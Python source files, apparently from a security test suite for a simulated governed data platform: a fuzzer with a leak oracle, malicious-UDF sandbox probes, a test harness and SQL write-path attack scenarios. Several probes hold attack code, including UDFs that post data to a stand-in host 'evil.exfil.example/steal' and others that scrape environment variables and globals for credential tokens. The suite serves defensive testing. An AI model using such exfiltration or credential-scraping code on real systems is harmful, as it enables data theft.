        proj = st.tuples(children, st.lists(expr, min_size=1, max_size=3)).map(
            lambda t: {"@type": "relation.project", "input": t[0], "expressions": t[1]}
        )
        lim = st.tuples(children, st.integers(-2, 5)).map(
            lambda t: {"@type": "relation.limit", "input": t[0], "limit": t[1]}
        )
        alias = st.tuples(children, st.sampled_from(("a", "x", "raw"))).map(
            lambda t: {"@type": "relation.subquery_alias", "input": t[0], "alias": t[1]}
        )
        dist = children.map(lambda c: {"@type": "relation.distinct", "input": c})
        uni = st.tuples(children, children).map(
            lambda t: {"@type": "relation.union", "inputs": [t[0], t[1]]}
        )
        agg = st.tuples(children, expr).map(
            lambda t: {
                "@type": "relation.aggregate",
                "input": t[0],
                "groupings": [],
                "aggregates": [
                    {"@type": "expr.agg", "name": "count", "child": t[1],
                     "distinct": False}
                ],
            }
        )
        return st.one_of(filt, proj, lim, alias, dist, uni, agg)

    well_formed = st.recursive(base, wrap, max_leaves=5)

    def mangle(pair: tuple[dict[str, Any], int]) -> dict[str, Any]:
        plan, pick = pair
        mutated = dict(plan)
        keys = sorted(mutated)
        if pick == 0 and len(keys) > 1:
            del mutated[keys[-1]]
        elif pick == 1:
            mutated[keys[-1]] = 42
        elif pick == 2:
            mutated["@type"] = "relation.evil"
        else:
            mutated["junk"] = "system.access.audit"
        return mutated

    mangled = st.tuples(well_formed, st.integers(0, 3)).map(mangle)
    return st.one_of(well_formed, well_formed, mangled)


@dataclass(frozen=True)
class FuzzOutcome:
    """Verdict of one fuzzed plan: contained refusal, clean rows, or leak."""

    ok: bool
    note: str


class LeakOracle:
    """Judges one fuzzed plan against the fresh-run-as-A definition."""

    def __init__(self, gauntlet: Any, user: str) -> None:
        self.gauntlet = gauntlet
        self.user = user
        self._token_pattern = re.compile(
            "|".join(re.escape(t) for t in sorted(gauntlet.static_secrets))
        )

    def _rows(self, client: Any, plan: dict[str, Any]) -> list[tuple]:
        schema, columns = client.execute_relation(plan)
        return list(zip(*columns)) if columns else []

    def judge(self, plan: dict[str, Any]) -> FuzzOutcome:
        """Run ``plan`` as the attacked principal and apply the leak oracle."""
        try:
            rows = self._rows(self.gauntlet.client_for(self.user), plan)
        except LakeguardError as exc:
            text = f"{type(exc).__name__}: {exc}"
            if self._token_pattern.search(text):
                return FuzzOutcome(False, f"error message leaked a secret: {text}")
            return FuzzOutcome(True, f"contained ({type(exc).__name__})")
        except Exception as exc:  # noqa: BLE001 - the oracle's whole point
            return FuzzOutcome(
                False, f"untyped crash {type(exc).__name__}: {exc}"
            )
        if self._token_pattern.search(str(rows)):
            return FuzzOutcome(False, f"rows contained a secret: {rows!r}")
        try:
            reference = self._rows(
                self.gauntlet.reference_client_for(self.user), plan
            )
        except LakeguardError as exc:
            return FuzzOutcome(
                False,
                f"attacked cluster returned {len(rows)} rows where a fresh "
                f"run refuses with {type(exc).__name__}",
            )
        if sorted(map(repr, rows)) != sorted(map(repr, reference)):
            return FuzzOutcome(
                False,
                f"rows diverge from fresh fault-free run: got {rows!r}, "
                f"reference {reference!r}",
            )
        return FuzzOutcome(True, f"{len(rows)} rows, matches reference")


def run_fuzz(
    gauntlet: Any,
    user: str,
    max_examples: int = 50,
    corpus_dir: str | None = None,
) -> list[dict[str, Any]]:
    """Fuzz the gauntlet cluster as ``user``; return found counterexamples.

    Derandomized (fixed seed) so CI runs are reproducible; failures are
    additionally persisted to ``corpus_dir`` so they become deterministic
    regression cases even after the fuzzer moves on.
    """
    from hypothesis import HealthCheck, given, settings

    oracle = LeakOracle(gauntlet, user)
    failures: list[dict[str, Any]] = []

    @settings(
        max_examples=max_examples,
        database=None,
        deadline=None,
        derandomize=True,
        suppress_health_check=list(HealthCheck),
    )
    @given(plan=relation_strategy())
    def probe(plan: dict[str, Any]) -> None:
        outcome = oracle.judge(plan)
        if not outcome.ok:
            record = {"user": user, "plan": plan, "note": outcome.note}
            failures.append(record)
            if corpus_dir is not None:
                save_counterexample(corpus_dir, record)
            raise AssertionError(f"leak oracle failed: {outcome.note}")

    try:
        probe()
    except AssertionError:
        # The counterexample is already recorded; callers assert on the
        # returned list so a fuzz run reports every detail it has.
        pass
    return failures


def save_counterexample(corpus_dir: str, record: dict[str, Any]) -> str:
    """Persist one counterexample as a stable-named JSON corpus file."""
    os.makedirs(corpus_dir, exist_ok=True)
    import hashlib

    digest = hashlib.sha256(
        json.dumps(record["plan"], sort_keys=True, default=str).encode()
    ).hexdigest()[:12]
    path = os.path.join(corpus_dir, f"fuzz-{record['user']}-{digest}.json")
    with open(path, "w") as handle:
        json.dump(record, handle, indent=2, sort_keys=True)
        handle.write("\n")
    return path


def load_corpus(corpus_dir: str) -> list[dict[str, Any]]:
    """Load every committed counterexample, sorted by filename."""
    if not os.path.isdir(corpus_dir):
        return []
    records = []
    for name in sorted(os.listdir(corpus_dir)):
        if not name.endswith(".json"):
            continue
        with open(os.path.join(corpus_dir, name)) as handle:
            record = json.load(handle)
        record["source"] = name
        records.append(record)
    return records
