"""Malicious-UDF sandbox probes (Queen's Guard's "hostile user code" class).

Every scenario ships real attacker code through the public UDF path and
asserts the sandbox boundary held: no egress delivery, no ambient
credentials in scope, no host-filesystem reads, no policy escalation, no
cross-trust-domain invocation. The in-process sandbox shares an
interpreter with the driver, so raw ``open()``/``gc`` introspection is a
*documented* gap (DESIGN.md §12 known gaps), not something these probes
pretend to contain — they attack the brokered paths the design actually
defends.
"""

from __future__ import annotations

from typing import Any

from repro.attacks import harness as h
from repro.attacks.registry import attack_scenario
from repro.attacks.scenario import AttackResult, judge, leaked
from repro.connect.client import col, udf
from repro.errors import (
    EgressDenied,
    HostFilesystemDenied,
    LakeguardError,
    SandboxPolicyViolation,
    TrustDomainViolation,
    UserCodeError,
)


def _run_udf_select(
    gauntlet: Any, user: str, expression: Any
) -> tuple[list[tuple], LakeguardError | None]:
    """Run ``SELECT expression FROM orders`` as ``user``; (rows, error)."""
    client = gauntlet.client_for(user)
    try:
        rows = client.table(h.ORDERS).select(expression).collect()
        return rows, None
    except LakeguardError as exc:
        return [], exc


@attack_scenario(
    name="udf-egress-exfiltration",
    layer="sandbox",
    technique="udf-probe",
    expected_containment="locked-down sandbox policy denies egress before "
    "the simulated network is touched (EgressDenied)",
)
def udf_egress_exfiltration(gauntlet: Any) -> AttackResult:
    """A UDF POSTs every value it sees to an attacker-controlled endpoint."""

    @udf("string")
    def exfil(buyer):
        from repro.sandbox import net

        net.http_post(f"http://{h.EVIL_HOST}/steal", buyer)
        return buyer

    rows, error = _run_udf_select(gauntlet, "alice", exfil(col("buyer")))
    if gauntlet.evil_received:
        return leaked(
            f"evil endpoint received {len(gauntlet.evil_received)} payloads",
            bytes_=sum(len(str(p)) for p in gauntlet.evil_received),
        )
    if not isinstance(error, EgressDenied):
        return leaked(f"expected EgressDenied, query returned {error or rows}")
    return judge(
        (rows, error), gauntlet.forbidden_tokens(), "egress denied, zero delivery"
    )


@attack_scenario(
    name="udf-ambient-credential-scrape",
    layer="sandbox",
    technique="udf-probe",
    expected_containment="the pickle serialization boundary strips driver "
    "state: UDF globals/environment contain no live credential token",
)
def udf_ambient_credential_scrape(gauntlet: Any) -> AttackResult:
    """A UDF scrapes its globals, builtins and environment for tokens."""

    @udf("string")
    def scrape(value):
        import os

        found = [v for v in os.environ.values() if "cred-" in v]
        found += [
            v
            for v in list(globals().values())
            if isinstance(v, str) and v.startswith("cred-")
        ]
        return ",".join(found) if found else "nothing"

    # Force at least one live credential to exist while the probe runs.
    gauntlet.client_for("alice").table(h.ORDERS).collect()
    live_before = gauntlet.forbidden_tokens()
    rows, error = _run_udf_select(gauntlet, "alice", scrape(col("region")))
    if error is not None:
        return judge(error, live_before, f"scrape failed with {type(error).__name__}")
    scraped = {r[0] for r in rows}
    if scraped - {"nothing"}:
        return leaked(f"UDF scraped ambient state: {sorted(scraped)}")
    return judge(rows, live_before, "scrape found nothing")


@attack_scenario(
    name="udf-host-filesystem-probe",
    layer="sandbox",
    technique="udf-probe",
    expected_containment="the brokered fs_read path raises "
    "HostFilesystemDenied under the locked-down policy",
)
def udf_host_filesystem_probe(gauntlet: Any) -> AttackResult:
    """A UDF reads a driver-host secret file through the filesystem broker."""
    secret_path = gauntlet.host_secret_path

    @udf("string")
    def read_host(value):
        from repro.sandbox import net

        return net.fs_read(secret_path).decode()

    rows, error = _run_udf_select(gauntlet, "alice", read_host(col("region")))
    if not isinstance(error, HostFilesystemDenied):
        return leaked(
            f"expected HostFilesystemDenied, query returned {error or rows}"
        )
    return judge(
        (rows, error), gauntlet.forbidden_tokens(), "host filesystem read denied"
    )


@attack_scenario(
    name="udf-ambient-policy-escalation",
    layer="sandbox",
    technique="udf-probe",
    expected_containment="the ambient-policy stack is narrowing-only: "
    "pushing a wider policy from user code raises SandboxPolicyViolation",
)
def udf_ambient_policy_escalation(gauntlet: Any) -> AttackResult:
    """A UDF pushes UNISOLATED onto its own policy stack, then exfiltrates."""

    @udf("string")
    def escalate(buyer):
        from repro.sandbox import net
        from repro.sandbox.policy import UNISOLATED

        with net.ambient_policy(UNISOLATED):
            net.http_post(f"http://{h.EVIL_HOST}/steal", buyer)
        return buyer

    rows, error = _run_udf_select(gauntlet, "alice", escalate(col("buyer")))
    if gauntlet.evil_received:
        return leaked(
            f"escalated policy delivered {len(gauntlet.evil_received)} payloads"
        )
    if not isinstance(error, SandboxPolicyViolation) or isinstance(
        error, (EgressDenied, UserCodeError)
    ):
        return leaked(
            f"expected the escalation itself to be refused, got {error or rows}"
        )
    return judge(
        (rows, error), gauntlet.forbidden_tokens(), "policy escalation refused"
    )


@attack_scenario(
    name="udf-cross-trust-domain-invoke",
    layer="sandbox",
    technique="udf-probe",
    expected_containment="sandboxes are pinned to one trust domain; "
    "routing another owner's UDF into one raises TrustDomainViolation",
)
def udf_cross_trust_domain_invoke(gauntlet: Any) -> AttackResult:
    """Alice's UDF is routed into a sandbox belonging to mallory's domain."""
    from repro.engine.types import type_from_name
    from repro.engine.udf import PythonUDF
    from repro.sandbox.policy import LOCKED_DOWN
    from repro.sandbox.sandbox import InProcessSandbox

    alice_udf = PythonUDF(
        name="leak_probe",
        func=lambda v: v,
        return_type=type_from_name("string"),
        owner="alice",
    )
    mallory_box = InProcessSandbox("mallory", LOCKED_DOWN)
    try:
        try:
            rows = mallory_box.invoke(alice_udf, [["payload"]])
        except TrustDomainViolation as exc:
            return judge(
                exc, gauntlet.forbidden_tokens(), "cross-domain invoke refused"
            )
        return leaked(f"foreign-domain sandbox executed the UDF: {rows}")
    finally:
        mallory_box.close()
