"""The wired multi-user stack every attack scenario runs against.

One :class:`GauntletHarness` is a complete deployment with known secrets:

- ``admin`` (workspace admin, member of ``hr`` so masks reveal to them),
  ``alice`` and ``carol`` (``analysts``, granted SELECT on the governed
  table), and ``mallory`` (authenticated, USE-granted, **no** SELECT).
- ``main.sales.orders`` under a row filter (``region = 'US'``) and a
  column mask on ``buyer`` (non-``hr`` principals see ``***``): every raw
  buyer value is a secret token that must never reach an analyst.
- ``main.sales.salaries``: admin-only, its values are secrets for everyone
  else, and its storage prefix is the cross-prefix replay target.
- a registered "evil" egress endpoint that records every payload it is
  ever handed — the exfiltration oracle for sandbox scenarios.
- a host secret file readable only through the brokered
  :func:`repro.sandbox.net.fs_read` path.

The harness also owns the run's :class:`~repro.attacks.registry
.AttackStatsBook` and registers one provider per scenario with the
catalog, which is what ``system.access.attack_stats`` serves.
"""

from __future__ import annotations

import os
import tempfile
from typing import Any

from repro.attacks import registry
from repro.attacks.scenario import AttackResult
from repro.platform import Workspace
from repro.sandbox import net

#: The governed table scenarios attack.
ORDERS = "main.sales.orders"
#: The admin-only table (cross-prefix / ungranted-read target).
SALARIES = "main.sales.salaries"
#: Host the evil exfiltration endpoint listens on.
EVIL_HOST = "evil.exfil.example"

#: Raw buyer values: *all* of them are secrets to non-``hr`` principals
#: (the mask shows ``***``), and the non-US rows are additionally hidden
#: entirely by the row filter.
_BUYERS = (
    "RAW-BUYER-US-1",
    "SECRET-EU-BUYER-2",
    "RAW-BUYER-US-3",
    "SECRET-APAC-BUYER-4",
)
_SALARY_PEOPLE = ("SECRET-SALARY-PERSON-1", "SECRET-SALARY-PERSON-2")
_HOST_SECRET = "HOST-FS-SECRET-0451"


class GauntletHarness:
    """A live, fully governed deployment plus the secrets it must keep."""

    def __init__(
        self,
        worker_backend: str | None = None,
        sandbox_backend: str = "inprocess",
        workload_slots: int = 8,
        sandbox_policy: Any = None,
    ) -> None:
        registry.load_all_scenarios()
        self.stats = registry.AttackStatsBook()
        self.workspace = Workspace(
            name="gauntlet", sandbox_backend=sandbox_backend
        )
        self.catalog = self.workspace.catalog
        ws = self.workspace
        ws.add_user("admin", admin=True)
        ws.add_user("alice")
        ws.add_user("carol")
        ws.add_user("mallory")
        ws.add_group("analysts", ["alice", "carol"])
        ws.add_group("hr", ["admin"])
        self.catalog.create_catalog("main", owner="admin")
        self.catalog.create_schema("main.sales", owner="admin")

        # ``sandbox_policy`` stays None in real runs; the benchmark's
        # defense-off ablation widens it to prove the gauntlet detects leaks.
        self.cluster = ws.create_standard_cluster(
            name="gauntlet",
            worker_backend=worker_backend,
            workload_slots=workload_slots,
            result_cache_enabled=True,
            sandbox_policy=sandbox_policy,
        )
        self._reference_cluster: Any = None
        self._clients: dict[str, Any] = {}
        self._reference_clients: dict[str, Any] = {}

        admin = self.client_for("admin")
        admin.sql(
            f"CREATE TABLE {ORDERS} (id int, region string, amount float, "
            "buyer string)"
        )
        admin_ctx = self.catalog.principals.context_for("admin")
        self.catalog.write_table(
            ORDERS,
            {
                "id": [1, 2, 3, 4],
                "region": ["US", "EU", "US", "APAC"],
                "amount": [10.0, 20.0, 30.0, 40.0],
                "buyer": list(_BUYERS),
            },
            admin_ctx,
        )
        admin.sql(f"ALTER TABLE {ORDERS} SET ROW FILTER (region = 'US')")
        admin.sql(
            f"ALTER TABLE {ORDERS} ALTER COLUMN buyer SET MASK "
            "(CASE WHEN is_account_group_member('hr') THEN buyer "
            "ELSE '***' END)"
        )
        admin.sql(
            f"CREATE TABLE {SALARIES} (id int, person string, salary float)"
        )
        self.catalog.write_table(
            SALARIES,
            {
                "id": [1, 2],
                "person": list(_SALARY_PEOPLE),
                "salary": [123456.0, 654321.0],
            },
            admin_ctx,
        )
        admin.sql("GRANT USE CATALOG ON main TO analysts")
        admin.sql("GRANT USE SCHEMA ON main.sales TO analysts")
        admin.sql(f"GRANT SELECT ON {ORDERS} TO analysts")
        admin.sql("GRANT USE CATALOG ON main TO mallory")
        admin.sql("GRANT USE SCHEMA ON main.sales TO mallory")

        #: Every payload the evil endpoint was ever handed (must stay empty).
        self.evil_received: list[Any] = []
        net.register_service(EVIL_HOST, self._evil_handler)

        handle = tempfile.NamedTemporaryFile(
            mode="w", suffix=".secret", delete=False
        )
        handle.write(_HOST_SECRET)
        handle.close()
        #: Path to a driver-host secret; only :func:`net.fs_read` reaches it
        #: from inside a sandbox, and only with ``allow_host_filesystem``.
        self.host_secret_path = handle.name

        for scenario in registry.all_scenarios():
            self.catalog.register_attack_stats_provider(
                scenario.name, self.stats.provider_for(scenario.name)
            )

    # -- oracles ------------------------------------------------------------

    def _evil_handler(self, path: str, payload: Any) -> Any:
        self.evil_received.append((path, payload))
        return {"ok": True}

    @property
    def static_secrets(self) -> frozenset[str]:
        """Byte sequences that must never reach a non-privileged principal."""
        return frozenset(_BUYERS) | frozenset(_SALARY_PEOPLE) | {_HOST_SECRET}

    def forbidden_tokens(self) -> frozenset[str]:
        """Static secrets plus every currently live credential token."""
        live = {c.token for c in self.catalog.vendor.live_credentials()}
        return self.static_secrets | live

    #: Ground truth for the governed table as a plain analyst sees it:
    #: row filter keeps US rows, mask replaces buyer with ``***``.
    VISIBLE_ORDERS = (
        (1, "US", 10.0, "***"),
        (3, "US", 30.0, "***"),
    )

    # -- clients ------------------------------------------------------------

    def client_for(self, user: str) -> Any:
        """A (cached) Connect client attached to the gauntlet cluster."""
        if user not in self._clients:
            self._clients[user] = self.cluster.connect(user)
        return self._clients[user]

    def reference_client_for(self, user: str) -> Any:
        """A client on the cache-free twin cluster (the fuzzer's oracle).

        The twin shares the catalog (same grants, policies, data) but runs
        with the plan and result caches disabled, so its output is what a
        fresh fault-free evaluation returns — the definition of "what this
        principal may see".
        """
        if self._reference_cluster is None:
            self._reference_cluster = self.workspace.create_standard_cluster(
                name="gauntlet-ref",
                enable_plan_cache=False,
                result_cache_enabled=False,
            )
        if user not in self._reference_clients:
            self._reference_clients[user] = self._reference_cluster.connect(user)
        return self._reference_clients[user]

    def collect(self, user: str, relation: dict[str, Any]) -> list[tuple]:
        """Execute a raw wire relation as ``user``; rows as tuples."""
        schema, columns = self.client_for(user).execute_relation(relation)
        return list(zip(*columns)) if columns else []

    # -- chaos --------------------------------------------------------------

    def arm_chaos(self, rate: float, seed: int) -> None:
        """Arm the catalog-wide fault schedule (PR-5 chaos) for this run."""
        self.catalog.faults.arm_from_env(
            {"LAKEGUARD_CHAOS_RATE": str(rate), "LAKEGUARD_CHAOS_SEED": str(seed)}
        )

    # -- running ------------------------------------------------------------

    def run_all(self) -> dict[str, AttackResult]:
        """Run every registered scenario; outcomes land in ``attack_stats``."""
        return {
            scenario.name: registry.run_scenario(self, scenario)
            for scenario in registry.all_scenarios()
        }

    def close(self) -> None:
        """Tear down clusters, the evil endpoint and the host secret file."""
        net.unregister_service(EVIL_HOST)
        try:
            os.unlink(self.host_secret_path)
        except OSError:
            pass
        self.workspace.shutdown()
