"""Write-path attacks against the governed transaction tier (PR-10).

The ACID write path is a new enforcement surface: every INSERT / UPDATE /
DELETE / MERGE flows through :mod:`repro.txn`, which re-checks MODIFY,
re-evaluates the target's row filter against current data, and refuses any
statement that assigns to — or whose expressions read — a masked column.
These scenarios probe each of those checks from the attacker's side: a
principal writing without MODIFY, a writer trying to reach rows their row
filter hides, and a MERGE that smuggles a masked-column read into its
matched clause. Containment means the write is refused (or silently
constrained to visible rows) and no hidden value ever surfaces, not even
inside an error message.
"""

from __future__ import annotations

from typing import Any

from repro.attacks import harness as h
from repro.attacks.registry import attack_scenario
from repro.attacks.scenario import AttackResult, judge, leaked
from repro.errors import PermissionDenied, WriteDeniedError

#: The hidden (non-US) rows as they must remain in storage: the row filter
#: makes them untouchable, so any write that alters them escaped the filter.
_HIDDEN_ROWS = (
    (2, "EU", 20.0, "SECRET-EU-BUYER-2"),
    (4, "APAC", 40.0, "SECRET-APAC-BUYER-4"),
)


def _storage_truth(gauntlet: Any) -> list[tuple]:
    """Read the orders table unfiltered, as the metastore admin would.

    The harness's row filter has no admin escape hatch, so ground truth
    comes from briefly dropping the filter; the ``finally`` in the caller
    restores it before any other scenario runs.
    """
    admin = gauntlet.client_for("admin")
    admin.sql(f"ALTER TABLE {h.ORDERS} DROP ROW FILTER")
    try:
        schema, columns = admin.execute_relation(
            {"@type": "relation.read", "table": h.ORDERS}
        )
        return sorted(zip(*columns)) if columns else []
    finally:
        admin.sql(f"ALTER TABLE {h.ORDERS} SET ROW FILTER (region = 'US')")


@attack_scenario(
    name="write-insert-without-modify",
    layer="enforcement",
    technique="write-denial",
    expected_containment="the transaction tier re-checks MODIFY on every "
    "staged write before any file is staged: SELECT alone yields "
    "PermissionDenied and the table's version never advances",
)
def write_insert_without_modify(gauntlet: Any) -> AttackResult:
    """Alice (SELECT-only) INSERTs a row, betting reads imply writes."""
    alice = gauntlet.client_for("alice")
    before = _storage_truth(gauntlet)
    try:
        alice.sql(
            f"INSERT INTO {h.ORDERS} VALUES (99, 'US', 1.0, 'forged-buyer')"
        )
        return leaked("SELECT-only principal committed an INSERT", rows=1)
    except PermissionDenied as exc:
        after = _storage_truth(gauntlet)
        if after != before:
            return leaked("denied INSERT still mutated storage")
        return judge(
            exc, gauntlet.forbidden_tokens(), "INSERT denied, storage intact"
        )


@attack_scenario(
    name="write-update-rowfilter-escape",
    layer="enforcement",
    technique="write-denial",
    expected_containment="the row filter is re-evaluated inside the "
    "transaction against current data: an unqualified UPDATE rewriting the "
    "filter column only ever touches the writer's visible rows; hidden "
    "rows stay byte-identical in storage",
)
def write_update_rowfilter_escape(gauntlet: Any) -> AttackResult:
    """Alice rewrites ``region`` to 'US' everywhere to unhide EU/APAC rows."""
    admin = gauntlet.client_for("admin")
    alice = gauntlet.client_for("alice")
    admin.sql(f"GRANT MODIFY ON {h.ORDERS} TO analysts")
    try:
        # No WHERE clause: if the filter were only applied at read time,
        # this would rewrite every row's filter column and unhide them all.
        # (Her visible rows are already 'US', so a contained run is a no-op.)
        response = alice.sql(f"UPDATE {h.ORDERS} SET region = 'US'")
        truth = _storage_truth(gauntlet)
        hidden = tuple(row for row in truth if row[0] in (2, 4))
        if hidden != _HIDDEN_ROWS:
            return leaked(
                f"filter-hidden rows were rewritten: {list(hidden)}",
                rows=len(hidden),
            )
        return judge(
            response,
            gauntlet.forbidden_tokens(),
            "hidden rows untouched by unqualified UPDATE",
        )
    finally:
        admin.sql(f"REVOKE MODIFY ON {h.ORDERS} FROM analysts")


@attack_scenario(
    name="write-merge-masked-read",
    layer="enforcement",
    technique="write-denial",
    expected_containment="MERGE refuses any ON / matched-clause expression "
    "that references a masked target column (WriteDeniedError), so the "
    "matched set cannot become an oracle over raw masked values",
)
def write_merge_masked_read(gauntlet: Any) -> AttackResult:
    """Alice joins on the masked ``buyer`` column to probe its raw values."""
    admin = gauntlet.client_for("admin")
    alice = gauntlet.client_for("alice")
    admin.sql(f"GRANT MODIFY ON {h.ORDERS} TO analysts")
    before = _storage_truth(gauntlet)
    try:
        # If ON saw raw buyer values, rows whose amount changes would tell
        # alice which hidden buyer strings collide with her probe strings.
        alice.sql(
            f"MERGE INTO {h.ORDERS} AS t USING {h.ORDERS} AS s "
            "ON t.buyer = s.buyer "
            "WHEN MATCHED THEN UPDATE SET amount = t.amount + 1000.0"
        )
        return leaked("MERGE joined on a masked column and committed")
    except WriteDeniedError as exc:
        after = _storage_truth(gauntlet)
        if after != before:
            return leaked("refused MERGE still mutated storage")
        return judge(
            exc, gauntlet.forbidden_tokens(), "masked-column MERGE refused"
        )
    finally:
        admin.sql(f"REVOKE MODIFY ON {h.ORDERS} FROM analysts")
