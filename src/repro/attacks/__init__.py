"""Adversarial security gauntlet: executable attacks on the enforcement plane.

PR 5 built chaos for *crashes*; this package is the attack twin for
*enforcement*. Every documented attack on the Lakeguard stack — malicious
UDFs probing the sandbox, hand-crafted Connect plans smuggling past
filters/masks, credential replay, cache oracles, admission-lane spoofing —
is a registered, executable :class:`~repro.attacks.scenario.AttackScenario`
that runs against a fully wired cluster and must report **zero leaked
rows/bytes**. The Queen's Guard paper (PAPERS.md) is the source of the
attack classes; DESIGN.md §12 is the threat-model matrix this registry is
diffed against in ``tests/test_documentation.py``.

Entry points:

- :func:`load_all_scenarios` — import every scenario module, return the
  registry contents.
- :class:`GauntletHarness` — the wired workspace (governed table, granted
  analyst, ungranted attacker, evil egress endpoint) scenarios run against.
- :func:`run_scenario` / :meth:`GauntletHarness.run_all` — execute and
  record outcomes into ``system.access.attack_stats``.
- :mod:`repro.attacks.fuzzer` — the hypothesis-based red-team fuzzer and
  its committed counterexample corpus.
"""

from repro.attacks.harness import GauntletHarness
from repro.attacks.registry import (
    AttackStatsBook,
    all_scenarios,
    attack_scenario,
    get_scenario,
    load_all_scenarios,
    run_scenario,
    scenario_names,
    technique_families,
)
from repro.attacks.scenario import AttackResult, AttackScenario, find_leaks

__all__ = [
    "AttackResult",
    "AttackScenario",
    "AttackStatsBook",
    "GauntletHarness",
    "all_scenarios",
    "attack_scenario",
    "find_leaks",
    "get_scenario",
    "load_all_scenarios",
    "run_scenario",
    "scenario_names",
    "technique_families",
]
