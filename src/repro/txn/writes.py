"""Staged write operations and their governed materialization.

A transaction never mutates table bytes while statements execute; each
INSERT / UPDATE / DELETE / MERGE is checked against fine-grained governance
*at staging time* and recorded as a :class:`WriteOp`. At commit, the
transaction manager reads the pinned base snapshot and calls
:func:`apply_ops` to fold the staged ops into the result row set.

Write-side FGAC rules (enforced by :func:`check_write`):

- every write needs ``MODIFY`` on the target table;
- UPDATE / DELETE / MERGE additionally need ``SELECT`` (they read existing
  rows to decide what to touch);
- a statement that *assigns to* or *references* a masked column of the
  target is refused with :class:`~repro.errors.WriteDeniedError` — the
  writer would otherwise read (or clobber based on) values the mask hides.
  Plain INSERT into a masked table stays legal: it reads nothing;
- the target's row filter becomes a *visibility mask* during
  materialization: rows the writer cannot see are never updated, deleted,
  or merge-matched, exactly as if they were not in the table.
"""

from __future__ import annotations

from dataclasses import dataclass, field as dc_field
from typing import TYPE_CHECKING

from repro.catalog.privileges import MODIFY, SELECT, UserContext
from repro.engine.batch import ColumnBatch
from repro.engine.expressions import (
    BoundRef,
    EvalContext,
    Expression,
    UnresolvedColumn,
    contains_user_code,
)
from repro.engine.types import Field, Schema
from repro.errors import AnalysisError, TransactionAbortedError, WriteDeniedError

if TYPE_CHECKING:
    from repro.catalog.metastore import UnityCatalog


# ---------------------------------------------------------------------------
# Expression binding
# ---------------------------------------------------------------------------


def _strip(name: str) -> str:
    return name.rpartition(".")[2]


def bind_expression(expr: Expression, schema: Schema) -> Expression:
    """Resolve column references in ``expr`` to positions in ``schema``.

    Qualified names (``t.col`` or an alias prefix) fall back to the bare
    column name; the transaction tier evaluates expressions over raw table
    rows, where a qualifier carries no information.
    """

    def resolve(node: Expression) -> Expression:
        if isinstance(node, UnresolvedColumn):
            try:
                index = schema.field_index(node.name)
            except AnalysisError:
                index = schema.field_index(_strip(node.name))
            f = schema[index]
            return BoundRef(index, f.name, f.dtype)
        return node

    return expr.transform(resolve)


def referenced_columns(expr: Expression | None, schema: Schema) -> set[str]:
    """Bare names of ``schema`` columns that ``expr`` references."""
    if expr is None:
        return set()
    out: set[str] = set()
    for node in expr.walk():
        name: str | None = None
        if isinstance(node, UnresolvedColumn):
            name = _strip(node.name)
        elif isinstance(node, BoundRef):
            name = node.name
        if name is not None and schema.contains(name):
            out.add(name)
    return out


def _eval(expr: Expression, batch: ColumnBatch, ctx: EvalContext) -> list:
    return expr.eval(batch, ctx)


# ---------------------------------------------------------------------------
# Staged operations
# ---------------------------------------------------------------------------


@dataclass
class InsertOp:
    """Append literal rows (in table column order)."""

    rows: list[tuple]


@dataclass
class UpdateOp:
    """Assign expressions to columns on visible rows matching ``where``."""

    assignments: dict[str, Expression]
    where: Expression | None


@dataclass
class DeleteOp:
    """Remove visible rows matching ``where``."""

    where: Expression | None


@dataclass
class MergeOp:
    """MERGE: match target rows against a source relation on a predicate.

    ``on``, and the matched-clause assignment expressions, are bound over
    the *combined* schema ``target fields + source fields``; not-matched
    insert values are bound over the source schema alone.
    """

    source_schema: Schema
    source_columns: dict[str, list]
    on: Expression
    matched_assignments: dict[str, Expression] | None
    matched_delete: bool
    insert_values: list[Expression] | None


WriteOp = InsertOp | UpdateOp | DeleteOp | MergeOp


@dataclass
class StagedWrite:
    """Everything :func:`apply_ops` needs to materialize one table's ops."""

    table: str
    schema: Schema
    row_filter: Expression | None
    ops: list[WriteOp] = dc_field(default_factory=list)

    @property
    def read_dependent(self) -> bool:
        """Does any op read existing rows (update/delete/merge)?"""
        return any(not isinstance(op, InsertOp) for op in self.ops)


# ---------------------------------------------------------------------------
# Write-side FGAC
# ---------------------------------------------------------------------------


def check_write(
    catalog: "UnityCatalog",
    ctx: UserContext,
    table_name: str,
    *,
    reads_rows: bool,
    assigned: set[str] = frozenset(),
    referenced: set[str] = frozenset(),
) -> None:
    """Authorize one write statement against the target's governance.

    Raises :class:`~repro.errors.PermissionDenied` when the principal lacks
    MODIFY (or SELECT for row-reading statements), and
    :class:`~repro.errors.WriteDeniedError` when the statement assigns to or
    references a masked column.
    """
    catalog.check_privilege(ctx, MODIFY, table_name)
    if reads_rows:
        catalog.check_privilege(ctx, SELECT, table_name)
    masked = {m.column for m in catalog.column_masks_of(table_name)}
    hit = sorted(masked & set(assigned))
    if hit:
        raise WriteDeniedError(
            f"{ctx.user}: cannot write to masked column(s) {hit} of "
            f"'{table_name}'"
        )
    hit = sorted(masked & set(referenced))
    if hit:
        raise WriteDeniedError(
            f"{ctx.user}: write statement reads masked column(s) {hit} of "
            f"'{table_name}'; masked values must not feed a write"
        )


def bound_row_filter(
    catalog: "UnityCatalog", table_name: str, schema: Schema
) -> Expression | None:
    """The target's effective row filter, bound over its raw schema."""
    rf = catalog.row_filter_of(table_name)
    if rf is None:
        return None
    if contains_user_code(rf.condition):
        # Policies are validated against this at creation; defend anyway.
        raise WriteDeniedError(
            f"row filter of '{table_name}' contains user code; refusing to "
            "evaluate it in the transaction tier"
        )
    return bind_expression(rf.condition, schema)


# ---------------------------------------------------------------------------
# Materialization
# ---------------------------------------------------------------------------


def _as_rows(columns: dict[str, list], names: list[str]) -> list[list]:
    count = len(columns[names[0]]) if names else 0
    return [[columns[n][i] for n in names] for i in range(count)]


def _as_columns(rows: list[list], names: list[str]) -> dict[str, list]:
    return {n: [row[i] for row in rows] for i, n in enumerate(names)}


def _visible(
    rows: list[list],
    schema: Schema,
    row_filter: Expression | None,
    eval_ctx: EvalContext,
) -> list[bool]:
    if row_filter is None or not rows:
        return [True] * len(rows)
    batch = ColumnBatch.from_rows(schema, rows)
    return [bool(v) for v in _eval(row_filter, batch, eval_ctx)]


def apply_ops(
    base: dict[str, list],
    staged: StagedWrite,
    eval_ctx: EvalContext,
) -> dict[str, list]:
    """Fold the staged ops into ``base`` and return the result columns.

    The row filter is re-evaluated against the *current* working rows
    before each row-reading op, so an op only ever touches rows the writer
    is allowed to see — including rows produced by its own earlier ops.
    """
    names = list(staged.schema.names)
    rows = _as_rows(base, names)
    for op in staged.ops:
        if isinstance(op, InsertOp):
            rows.extend(list(r) for r in op.rows)
